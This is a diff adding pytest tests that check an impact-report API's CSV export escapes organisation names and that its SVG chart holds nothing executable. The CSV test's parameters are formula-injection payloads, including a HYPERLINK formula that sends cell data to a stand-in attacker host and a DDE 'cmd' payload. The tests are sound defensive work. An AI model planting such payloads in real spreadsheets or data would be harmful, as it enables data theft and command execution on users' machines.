@@ -11,13 +11,17 @@ before and after, or of our own ids."""
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from datetime import datetime, timedelta
 from typing import Any
+from xml.etree import ElementTree
 
 import httpx
 import pytest
 
+from tests.api.helpers import register
 from tests.api.test_contracts import Signed, signed_contract
 from tests.api.test_ocds_probe import forge
 from tests.api.test_outside_probe import failures
@@ -364,3 +368,68 @@ async def test_odd_tender_terms_stop_no_projection(
     await settle(client)
     assert failures(client) == []
     await every_route_answers(client, staff_headers)
+
+
+# The CSV and the chart ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Click") CIC',
+        "+cmd|' /C calc'!A0 Ltd",
+        "@SUM(1+1) Trust",
+        "-2+3 Co-operative",
+    ],
+)
+async def test_the_csv_carries_no_formula_from_an_organisation_s_name(
+    client: Client, staff_headers: Headers, clock: ManualClock, name: str
+) -> None:
+    registered = await register(client, name=name)
+    org = uuid.UUID(registered["id"])
+    contract = uuid.uuid4()
+    await forge(
+        client,
+        contract,
+        1,
+        SIGNED,
+        **signing([(org, 100)], clock.now(), 4_200) | {"buyer_id": str(org)},
+    )
+    await settle(client)
+    for by in ("member", "buyer"):
+        exported = await client.get(
+            "/api/v1/impact/report.csv", params={"by": by}, headers=staff_headers
+        )
+        assert exported.status_code == 200, exported.text
+        rows = list(csv.DictReader(io.StringIO(exported.text)))
+        ours = [r for r in rows if r["group"] == str(org)]
+        assert ours, by
+        for row in ours:
+            assert row["name"].startswith("'"), row
+            assert row["name"][1:] == name
+            assert not any(str(v).startswith(("=", "+", "@")) for v in row.values())
+        assert len(exported.text.splitlines()) == len(rows) + 1  # a record a line
+        # The JSON report shows the name as it is.
+        report_ = ok(
+            await client.get("/api/v1/impact/report", params={"by": by}, headers=staff_headers)
+        )
+        assert [g["name"] for g in report_["groups"] if g["key"] == str(org)] == [name]
+
+
+async def test_the_chart_is_a_drawing_with_nothing_to_run(client: Client) -> None:
+    for figure in FIGURES:
+        chart = await client.get(
+            "/api/v1/impact/chart.svg", params={"figure": figure, "year": "2026"}
+        )
+        assert chart.status_code == 200, chart.text
+        assert chart.headers["content-type"].startswith("image/svg+xml")
+        policy = chart.headers["content-security-policy"]
+        assert "default-src 'none'" in policy
+        assert "script-src" not in policy
+        root = ElementTree.fromstring(chart.text)  # noqa: S314 (our own output)
+        assert root.tag == "{http://www.w3.org/2000/svg}svg"
+        for element in root.iter():
+            assert not element.tag.endswith(("foreignObject", "iframe", "embed", "object"))
+            for attribute, value in element.attrib.items():
+                assert not attribute.lower().startswith("on"), (element.tag, attribute)
+                assert "javascript:" not in value.lower()
